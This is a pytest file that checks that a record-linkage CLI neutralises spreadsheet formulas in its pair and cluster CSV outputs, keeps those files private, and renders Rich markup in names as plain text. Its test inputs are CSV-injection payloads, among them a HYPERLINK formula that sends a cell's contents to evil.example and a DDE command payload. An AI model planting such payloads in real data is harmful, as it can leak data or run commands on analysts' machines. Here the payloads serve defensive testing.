"""`cruce link` CSV outputs never carry a spreadsheet formula (issue 10 #16, OWASP CSV
injection): record ids are chosen by whoever wrote the record, and an analyst opens the
pairs and clusters in a spreadsheet."""

from __future__ import annotations

import csv
import json
from pathlib import Path

from typer.testing import CliRunner

from cruce._csvsafe import FORMULA_STARTS, unsafe_cell
from cruce.cli import app
from cruce.demo import WorldSpec, write_people_jsonl
from cruce.link._run import read_pairs

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "-abc", "@SUM(A1)", "+1",
           "=cmd|' /C calc'!A0"]


def _person(record_id: str) -> dict[str, object]:
    return {"id": record_id, "schema": "Person", "properties": {
        "name": ["HERNANDEZ GARCIA JOSE LUIS"], "birthDate": ["1990-03-05"],
        "idNumber": ["0801-1990-12345"], "nationality": ["hn"]}}


def test_pairs_and_clusters_neutralise_formulas_and_are_private(tmp_path: Path) -> None:
    written = write_people_jsonl(tmp_path, WorldSpec(seed=3, people=120))
    files = [written["hn_police"], written["us_border"]]
    for index, record_id in enumerate(HOSTILE):
        with files[index % 2].open("a", encoding="utf-8") as fh:
            fh.write(json.dumps(_person(record_id)) + "\n")
    pairs, clusters = tmp_path / "pairs.csv", tmp_path / "clusters.csv"
    result = CliRunner().invoke(app, ["link", *map(str, files), "--out", str(pairs),
                                      "--clusters", str(clusters)])
    assert result.exit_code == 0, result.output
    for path in (pairs, clusters):
        cells = [cell for row in csv.reader(path.open(newline="")) for cell in row]
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
        assert path.stat().st_mode & 0o777 == 0o600
    hostile_pairs = [p for p in read_pairs(pairs) if p[0] in HOSTILE and p[1] in HOSTILE]
    assert len(hostile_pairs) == len(HOSTILE) * (len(HOSTILE) - 1) // 2
    ids = {unsafe_cell(r["id"]) for r in csv.DictReader(clusters.open(newline=""))}
    assert set(HOSTILE) <= ids
    clustered = {unsafe_cell(r["cluster_id"]) for r in csv.DictReader(clusters.open(newline=""))
                 if unsafe_cell(r["id"]) in HOSTILE}
    assert len(clustered) == 1


def test_names_in_the_explain_table_are_text_not_rich_markup() -> None:
    from rich.console import Console

    from cruce.cli._link import _name

    console = Console(record=True, width=80)
    console.print(_name({"given1_l": "[link=http://evil.example]Ana[/link]", "surname1_l": "[b]"},
                        "l"))
    assert console.export_text().strip() == "[link=http://evil.example]Ana[/link] [b]"
